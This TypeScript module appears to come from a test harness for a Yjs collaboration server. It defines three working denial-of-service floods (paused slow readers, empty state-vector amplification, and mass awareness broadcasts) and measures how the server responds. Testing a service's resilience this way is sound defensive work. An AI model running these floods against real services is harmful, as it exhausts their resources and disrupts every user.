/**
 * Floods over the collaboration socket: many sockets that never read, "send me everything"
 * repeated against a big document, and big awareness states fanned out to every socket.
 */
import { Awareness, encodeAwarenessUpdate } from 'y-protocols/awareness';
import * as Y from 'yjs';
import { buildBigDocument, mib, openHostile, untilWindowEnd } from './collabHelpers.ts';
import { EMPTY_STEP1, messages } from './messages.ts';
import type { RawWebSocket } from './rawSocket.ts';
import { sleep } from './RoundsProcess.ts';
import type { Attack } from './types.ts';

/** 150 sockets of one session that ask for the whole (big) document and never read. */
export const slowReaders: Attack = {
  name: 'slow-readers',
  description:
    '~11 MB document; 150 sockets of one session send sync step 1 (empty state vector), never read',
  prepare: (ctx) => buildBigDocument(ctx),
  run: async (ctx) => {
    const started = Date.now();
    const sockets: RawWebSocket[] = [];
    const refused: string[] = [];
    for (let i = 0; i < 150 && !ctx.signal.aborted; i += 10) {
      const batch = await Promise.allSettled(
        Array.from({ length: Math.min(10, 150 - i) }, () => openHostile(ctx, { pauseAfterUpgrade: true })),
      );
      for (const r of batch) {
        if (r.status === 'fulfilled') {
          r.value.send(EMPTY_STEP1);
          sockets.push(r.value);
        } else if (refused.length < 150)
          refused.push(r.reason instanceof Error ? r.reason.message : 'failed');
      }
    }
    const openedSeconds = (Date.now() - started) / 1000;
    await untilWindowEnd(ctx, started);
    // Paused sockets see no close frames; a destroyed socket shows in its state.
    const endedByServer = sockets.filter((s) => s.isClosed || s.socket.readableEnded).length;
    for (const s of sockets) s.destroy();
    return {
      opened: sockets.length,
      refused: refused.length,
      refusals: [...new Set(refused)],
      openedSeconds,
      endedByServer,
    };
  },
  summary: (d) => {
    const big = d.bigDocument as { servedBytes: number } | undefined;
    return `${String(d.opened)} paused readers of a ${big ? mib(big.servedBytes) : '?'} document, ${String(d.refused)} refused`;
  },
};

interface FloodStats {
  requests: number;
  answers: number;
  bytesOut: number;
  bytesIn: number;
  reconnects: number;
  refusedReconnects: number;
  closeCodes: Record<string, number>;
}

/** A few sockets repeat the 4-byte "send me everything" as fast as the server answers. */
export const amplificationStep1: Attack = {
  name: 'amplification-step1',
  description:
    'sync step 1 with an empty state vector (00 00 01 00) repeated on 4 sockets against the ~11 MB document',
  prepare: (ctx) => buildBigDocument(ctx),
  run: async (ctx) => {
    const started = Date.now();
    const CONNECTIONS = 4;
    /**
     * Requests in flight per socket: pipelined, so the server never waits for the attacker, yet
     * read as they come (16 in flight only gets the socket dropped at the server's 16 MiB buffer cap).
     */
    const WINDOW = 2;
    const stats: FloodStats = {
      requests: 0,
      answers: 0,
      bytesOut: 0,
      bytesIn: 0,
      reconnects: 0,
      refusedReconnects: 0,
      closeCodes: {},
    };
    const done = (): boolean => ctx.signal.aborted || Date.now() >= started + ctx.windowMs;
    const loop = async (): Promise<void> => {
      while (!done()) {
        let ws: RawWebSocket;
        try {
          ws = await openHostile(ctx);
        } catch {
          stats.refusedReconnects++;
          await sleep(200);
          continue;
        }
        let outstanding = 0;
        const fill = (): void => {
          while (outstanding < WINDOW && !done()) {
            outstanding++;
            stats.requests++;
            ws.send(EMPTY_STEP1);
          }
        };
        ws.onFrame = (f) => {
          if (f.opcode === 2 && f.prefix[0] === 0 && f.prefix[1] === 1) {
            stats.answers++;
            outstanding--;
            fill();
          }
        };
        fill();
        while (!done() && !ws.isClosed) await sleep(50);
        stats.bytesIn += ws.bytesIn;
        stats.bytesOut += ws.bytesOut;
        if (ws.isClosed) {
          const code = String(ws.closeCode ?? 'no close frame');
          stats.closeCodes[code] = (stats.closeCodes[code] ?? 0) + 1;
          if (!done()) stats.reconnects++;
          await sleep(100);
        }
        ws.destroy();
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, loop));
    const seconds = (Date.now() - started) / 1000;
    return {
      flood: stats,
      amplification: stats.bytesOut > 0 ? stats.bytesIn / stats.bytesOut : Number.NaN,
      receivedMiBPerSecond: stats.bytesIn / 2 ** 20 / seconds,
    };
  },
  summary: (d) => {
    const s = d.flood as FloodStats | undefined;
    if (!s) return '–';
    return `${s.answers} answers, ${mib(s.bytesIn)} received for ${s.bytesOut < 10_240 ? `${s.bytesOut} B` : `${(s.bytesOut / 1024).toFixed(0)} KiB`} sent (×${Number(d.amplification).toFixed(0)}), ${s.reconnects} reconnects`;
  },
};

interface AwarenessClient {
  ws: RawWebSocket;
  awareness: Awareness;
  doc: Y.Doc;
  timer?: NodeJS.Timeout;
}

/** 300 sockets, each repeating its own 8 kB awareness state; every change goes to every socket. */
function awarenessFlood(): Attack {
  const CONNECTIONS = 300;
  const INTERVAL_MS = 1_000;
  /** Opened before the window (silent), so the window measures the flood only. */
  let clients: AwarenessClient[] = [];
  return {
    name: 'amplification-awareness',
    description:
      '300 sockets (one session) each sending an 8 kB awareness state (encodeAwarenessUpdate) every second',
    prepare: async (ctx) => {
      const started = Date.now();
      clients = [];
      let refused = 0;
      for (let i = 0; i < CONNECTIONS && !ctx.signal.aborted; i += 20) {
        const batch = await Promise.allSettled(
          Array.from({ length: Math.min(20, CONNECTIONS - i) }, () => openHostile(ctx)),
        );
        for (const r of batch) {
          if (r.status !== 'fulfilled') {
            refused++;
            continue;
          }
          const doc = new Y.Doc();
          clients.push({ ws: r.value, awareness: new Awareness(doc), doc });
        }
      }
      return { opened: clients.length, refused, openSeconds: (Date.now() - started) / 1000 };
    },
    run: async (ctx) => {
      const started = Date.now();
      const pad = 'x'.repeat(8_000 - 40);
      let sent = 0;
      const in0 = clients.reduce((n, c) => n + c.ws.bytesIn, 0);
      const out0 = clients.reduce((n, c) => n + c.ws.bytesOut, 0);
      for (const client of clients) {
        const beat = (): void => {
          if (client.ws.isClosed || ctx.signal.aborted) return;
          client.awareness.setLocalState({ user: { name: 'x' }, cursor: sent, pad });
          client.ws.send(messages.awareness(encodeAwarenessUpdate(client.awareness, [client.doc.clientID])));
          sent++;
        };
        // Spread over the interval so the sockets do not beat in lockstep.
        setTimeout(() => {
          beat();
          client.timer = setInterval(beat, INTERVAL_MS);
        }, Math.random() * INTERVAL_MS);
      }
      await untilWindowEnd(ctx, started);
      const closedByServer = clients.filter((c) => c.ws.isClosed).length;
      const codes: Record<string, number> = {};
      let bytesIn = -in0;
      let bytesOut = -out0;
      for (const c of clients) {
        if (c.timer) clearInterval(c.timer);
        bytesIn += c.ws.bytesIn;
        bytesOut += c.ws.bytesOut;
        if (c.ws.isClosed) {
          const code = String(c.ws.closeCode ?? 'no close frame');
          codes[code] = (codes[code] ?? 0) + 1;
        }
        c.ws.destroy();
        c.awareness.destroy();
        c.doc.destroy();
      }
      clients = [];
      const seconds = (Date.now() - started) / 1000;
      return {
        awarenessSent: sent,
        bytesOut,
        bytesIn,
        amplification: bytesOut > 0 ? bytesIn / bytesOut : Number.NaN,
        receivedMiBPerSecond: bytesIn / 2 ** 20 / seconds,
        closedByServer,
        closeCodes: codes,
      };
    },
    summary: (d) =>
      `${String(d.opened)} sockets; ${mib(Number(d.bytesIn))} received for ${mib(Number(d.bytesOut))} sent (×${Number(d.amplification).toFixed(0)}), ${String(d.closedByServer)} closed by server`,
  };
}

export const amplificationAwareness = awarenessFlood();
